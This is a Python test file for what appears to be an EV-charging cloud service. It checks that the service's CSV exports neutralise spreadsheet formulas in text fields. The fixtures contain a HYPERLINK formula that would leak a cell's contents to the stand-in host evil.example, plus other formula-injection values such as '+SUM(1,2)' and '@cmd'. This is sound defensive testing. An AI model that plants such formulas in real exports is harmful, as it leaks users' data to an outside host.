"""CSV exports open in spreadsheets: text from chargers and users never becomes a live formula."""

from __future__ import annotations

import csv
import io

from hypothesis import given, settings
from hypothesis import strategies as st

from contract.spreadsheet import FORMULA_START, safe_cell
from tests.cloud.fakes import cdr_body, message

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for your receipt")'


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_no_cell_starts_a_formula_and_text_is_kept(text):
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_START) or float(cell) == float(text)
    assert cell in (text, "'" + text)


@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False),
                 st.decimals(allow_nan=False, allow_infinity=False)))
def test_numbers_stay_numbers(number):
    assert safe_cell(str(number)) == str(number)


async def test_the_cloud_csv_export_neutralises_formulas_in_every_text_field(cloud, make_site):
    token = await cloud.add_operator("acme", "site-a")
    site = make_site()
    body = cdr_body(1) | {"id_tag": HYPERLINK, "user": "+SUM(1,2)", "user_group": "@cmd", "stop_reason": "-2+3",
                          "charger_id": "\t=1", "meter_start_wh": -5, "energy_kwh": "-1.500", "flags": ["=A1"]}
    await site.up("cdr", [message(1, "cdr", body)])
    await cloud.wait_handled(1)
    async with cloud.http.get(f"{cloud.base}/api/v1/sites/site-a/cdrs", params={"format": "csv"},
                              headers={"Authorization": f"Bearer {token}"}) as response:
        assert response.status == 200
        rows = list(csv.DictReader(io.StringIO(await response.text())))
    row = rows[0]
    assert row["id_tag"] == "'" + HYPERLINK
    assert (row["user"], row["user_group"], row["stop_reason"], row["charger_id"], row["flags"]) == (
        "'+SUM(1,2)", "'@cmd", "'-2+3", "'\t=1", "'=A1")
    assert (row["meter_start_wh"], row["energy_kwh"]) == ("-5", "-1.500")       # numbers stay numeric
    assert all(safe_cell(value) == value for value in row.values())      # nothing left to neutralise
